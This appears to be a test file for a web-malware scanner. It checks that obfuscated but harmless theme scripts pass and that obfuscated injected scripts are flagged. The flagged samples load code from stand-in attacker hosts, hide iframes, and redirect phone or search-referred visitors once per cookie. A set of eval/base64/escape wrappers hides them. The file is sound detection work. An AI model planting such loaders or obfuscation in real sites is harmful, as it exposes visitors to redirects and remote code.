"""Scripts that come encoded as a whole: themes that are sold do, and so do loaders."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from cyberscan.model.verdict import Outcome, Verdict
from tests.checks.content.reading import b64
from tests.checks.content.scripting import in_file, on_page
from tests.parse.test_scripts import codes

VIEWER = """(function(){function bingkai(u){var f=document.createElement('iframe');
SIZEf.src='https://lihat.berkasnet.example/v?f='+encodeURIComponent(u);
return f}var d=document.querySelectorAll('a[data-lihat]');for(var i=0;i<d.length;i++){
d[i].addEventListener('click',function(e){e.preventDefault();var k=document.getElementById(
'pratayang');while(k.firstChild){k.removeChild(k.firstChild)}k.appendChild(bingkai(this.href));
k.hidden=false})}var p=document.querySelector('a[data-awal]');if(p){document.getElementById(
'pratayang').appendChild(bingkai(p.href))}document.oncontextmenu=function(){return false}})();"""
THEME = """!function(d,n){var h=d.getElementsByTagName('head')[0];
['https://fonts.googleapis.com/css2?x','https://ikon.gubahrupa.example/garis.css'].forEach(
function(u){var l=d.createElement('link');l.rel='stylesheet';l.href=u;h.appendChild(l)});
n.stat=[['situs',18842],['rujuk',d.referrer]];var s=d.createElement('script');
s.src='https://statistik.gubahrupa.example/gu.js';h.appendChild(s);d.addEventListener(
'DOMContentLoaded',function(){var b=d.querySelectorAll('blockquote[data-pasal]');for(var i=0;
i<b.length;i++){b[i].title='Pasal '+b[i].getAttribute('data-pasal');b[i].onclick=function(){
this.classList.toggle('penuh')}}})}(document,window);"""
SLIDER = """jQuery(function($){$('.sorot').each(function(){var k=$(this);k.find('img').hide(
).first().show();setInterval(function(){k.find('img:visible').fadeOut(400,function(){var n=$(
this).next('img');(n.length?n:k.find('img').first()).fadeIn(400)})},5000)});$('.menu li').hover(
function(){$(this).children('ul').slideDown(200)},function(){$(this).children('ul').slideUp(
200)});$('#atas').on('click',function(){$('html,body').animate({scrollTop:0},600);return false});
LAST});"""
DARK = """(function(w,d){var t=d.getElementById('gelap');function atur(g){
d.body.className=g?'gelap':'';try{localStorage.setItem('gelap',g?'1':'0')}catch(e){}}if(
localStorage.getItem('gelap')==='1')atur(1);if(t)t.addEventListener('click',function(){atur(
d.body.className!=='gelap')});if(w.innerWidth<768||/Android/i.test(navigator.userAgent)){
var m=d.querySelector('.menu');if(m){m.classList.add('kecil');m.onclick=function(){
m.classList.toggle('buka')}}}if(d.cookie.indexOf('tur=1')<0){d.cookie='tur=1';
var s=d.createElement('script');s.src='https://cdn.tokotema.example/tur.js';d.head.appendChild(
s)}})(window,document);"""
CREDIT = """(function(){var k=document.querySelector('#kredit a');function periksa(){if(
!k||k.getAttribute('href').indexOf('tokotema.example')<0){alert(
'Kredit tema tidak boleh dihapus');
window.location.href='https://www.tokotema.example/kredit'}}setTimeout(periksa,3000);
var s=document.createElement('script');
s.src='https://cdn.tokotema.example/cek.js?h='+encodeURIComponent(location.hostname);
document.head.appendChild(s);var b=document.querySelectorAll('.berita li');for(var i=0;
i<b.length;i++){(function(n){n.addEventListener('mouseover',function(){n.classList.add(
'sorot')});n.addEventListener('mouseout',function(){n.classList.remove('sorot')})})(b[i])}})();"""
STARTER = """(function(){var K='tl.modul',V='2026.11';function jalankan(t){
var s=document.createElement('script');s.text=t;document.head.appendChild(s)}var ada=null;try{
ada=JSON.parse(localStorage.getItem(K))}catch(e){}if(ada&&ada.v===V){jalankan(decodeURIComponent(
escape(atob(ada.k))));return}var x=new XMLHttpRequest();x.open('GET','/pustaka/modul.b64?v='+V);
x.onload=function(){if(x.status!==200){return}try{localStorage.setItem(K,JSON.stringify({v:V,
k:x.responseText}))}catch(e){}jalankan(decodeURIComponent(escape(atob(x.responseText))))};x.send(
)})();"""
SIZED = VIEWER.replace("SIZE", "f.width='100%';f.height='640';f.style.border='0';")
NEWS = "$.getScript('https://cdn.tokotema.example/kabar.js?v=4')"
TWICE = THEME.replace(
    "'https://statistik.gubahrupa.example/gu.js'",
    f"atob('{b64('https://statistik.gubahrupa.example/gu.js')}')",
)
HONEST = {
    "documents in a frame": SIZED,
    "documents in a frame that a class gives its size": VIEWER.replace("SIZE", "f.className='p';"),
    "fonts, statistics and notes": THEME,
    "pictures in turn and news of the theme": SLIDER.replace("LAST", NEWS),
    "a dark mode and a tour for who is new": DARK,
    "a guard of the credit and a licence": CREDIT,
    "statistics whose address is in base64 once more": TWICE,
    "a start that takes its module from its own host": STARTER,
}


def percent(said: str) -> str:
    return "".join(f"%{ord(c):02x}" for c in said)


def hexed(said: str) -> str:
    return "".join(f"\\x{ord(c):02x}" for c in said)


def quoted(said: str) -> str:
    return said.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")


def in_lines(said: str) -> str:
    encoded = b64(said)
    return ",".join(f'"{encoded[at : at + 60]}"' for at in range(0, len(encoded), 60))


Wrap = Callable[[str], str]
WRAPS: dict[str, Wrap] = {
    "eval of base64": lambda s: f'eval(atob("{b64(s)}"))',
    "eval of character codes": lambda s: f"eval(String.fromCharCode({codes(s)}))",
    "a function": lambda s: f'new Function(atob("{b64(s)}"))()',
    "a name in a function": lambda s: (
        f'(function(){{var s="{b64(s)}";eval(decodeURIComponent(escape(atob(s))))}})()'
    ),
    "the text of an element": lambda s: (
        f'var s=document.createElement("script");s.text=atob("{b64(s)}");'
        "document.head.appendChild(s)"
    ),
    "unescape": lambda s: f'eval(unescape("{percent(s)}"))',
    "a written tag": lambda s: f'document.write("<script>"+atob("{b64(s)}")+"<\\/script>")',
    "jQuery": lambda s: f'jQuery(function($){{$.globalEval(atob("{b64(s)}"))}})',
    "a clock": lambda s: f'setTimeout(atob("{b64(s)}"),0)',
    "escapes": lambda s: f'eval("{hexed(s)}")',
    "backwards": lambda s: f'eval("{quoted(s[::-1])}".split("").reverse().join(""))',
    "below a comment, once": lambda s: (
        "/* Tema Hukum 4.1. Jangan diubah! */\nif(typeof window.Tema==='undefined'){window.Tema=1;"
        f'try{{(0,eval)(window.atob("{b64(s)}"))}}catch(e){{console.log(e)}}}}'
    ),
    "twice": lambda s: f"""eval(atob("{b64(f"eval(atob('{b64(s)}'))")}"))""",
    "lines": lambda s: f'var a=[{in_lines(s)}];eval(atob(a.join("")))',
}


def is_not_accused(verdict: Verdict) -> bool:
    return verdict.outcome is Outcome.PASS or verdict.message == "look"


@pytest.mark.parametrize("wrap", WRAPS)
@pytest.mark.parametrize("source", [SIZED, THEME])
def test_however_a_theme_is_encoded(wrap: str, source: str) -> None:
    assert is_not_accused(on_page(WRAPS[wrap](source), ""))
    assert is_not_accused(in_file(WRAPS[wrap](source), ""))


@pytest.mark.parametrize("name", HONEST)
@pytest.mark.parametrize("wrap", ["eval of base64", "eval of character codes"])
def test_whatever_an_encoded_theme_does(name: str, wrap: str) -> None:
    assert is_not_accused(on_page(WRAPS[wrap](HONEST[name]), ""))
    assert is_not_accused(in_file(WRAPS[wrap](HONEST[name]), ""))


LOADER = (
    "var s=document.createElement('script');s.src='https://cdn.jahat.example/a.js';"
    "document.head.appendChild(s);"
)
AGAIN = f"atob('{b64('https://cdn.jahat.example/mulai.js')}')"
FRAME = "$('<iframe>',{src:'https://jahat.example/x'})STYLE.appendTo('body')"
GUILTY = {
    "a loader": (LOADER, "loader"),
    "a loader below much that is said": (f"/*{'tema hukum daerah ' * 40}*/{LOADER}", "loader"),
    "a loader among much that does nothing": (
        "".join(f"var a{n}='panjang sekali {n}';" for n in range(40)) + LOADER,
        "loader",
    ),
    "a loader for some, once": (
        (
            "if(/Android|iPhone/i.test(navigator.userAgent)&&document.cookie.indexOf('a=1')<0){"
            f"document.cookie='a=1;path=/;expires='+new Date().toUTCString();{LOADER}}}"
        ),
        "loader",
    ),
    "a long start that loads from an address in base64 once more": (
        STARTER + LOADER.replace("'https://cdn.jahat.example/a.js'", AGAIN),
        "look",
    ),
    "a theme that loads from the trade": (
        THEME.replace("statistik.gubahrupa", "cdn.slot88gacor"),
        "loader",
    ),
    "a theme that looks who comes from a search": (
        THEME.replace("var s=", "if(!/google\\.|bing\\./.test(d.referrer))return;var s="),
        "look",
    ),
    "a theme that looks who comes from a search by telephone, once": (
        THEME.replace(
            "var s=",
            "if(!/google\\.|bing\\./.test(d.referrer)||screen.width>700||d.cookie)return;"
            "d.cookie='a=1';var s=",
        ),
        "loader",
    ),
    "a theme that moves everybody": (THEME + "location.href='https://jahat.example/x'", "visitors"),
    "a slider that moves everybody, later": (
        SLIDER.replace(
            "LAST", "setTimeout(function(){location.replace('https://jahat.example')},9)"
        ),
        "loader",
    ),
    "a slider that moves telephones, once": (
        SLIDER.replace(
            "LAST",
            "if(screen.width<700&&!localStorage.k){localStorage.k=1;"
            "location.href='https://jahat.example/x'}",
        ),
        "visitors",
    ),
    "a slider with a frame of no size": (
        SLIDER.replace("LAST", FRAME.replace("STYLE", ".css({width:0,height:0})")),
        "loader",
    ),
    "a slider with a frame that is hidden": (
        SLIDER.replace("LAST", FRAME.replace("STYLE", ".hide()")),
        "loader",
    ),
    **{
        f"documents in a frame: {style}": (VIEWER.replace("SIZE", style), "loader")
        for style in (
            "f.style.display='none';",
            "f.width=1;f.height=1;",
            "f.setAttribute('style','position:absolute;left:-9999px');",
            "f.style.cssText='opacity:0;border:0';",
        )
    },
}


@pytest.mark.parametrize("name", GUILTY)
@pytest.mark.parametrize("wrap", ["eval of base64", "escapes", "a written tag"])
def test_what_an_encoded_script_does_for_a_stranger(name: str, wrap: str) -> None:
    source, message = GUILTY[name]
    assert on_page(WRAPS[wrap](source), "").message == message
    assert in_file(WRAPS[wrap](source), "").message == message


@pytest.mark.parametrize("name", ["eval of base64", "eval of character codes"])
def test_what_is_added_to_another_script_is_no_theme(name: str) -> None:
    before = "".join(f"$('.menu{n}').on('click',function(){{$(this).toggle()}});" for n in range(5))
    source = before + WRAPS[name](THEME)
    assert on_page(source, "").message == "look"
    assert in_file(source, "").message == "look"
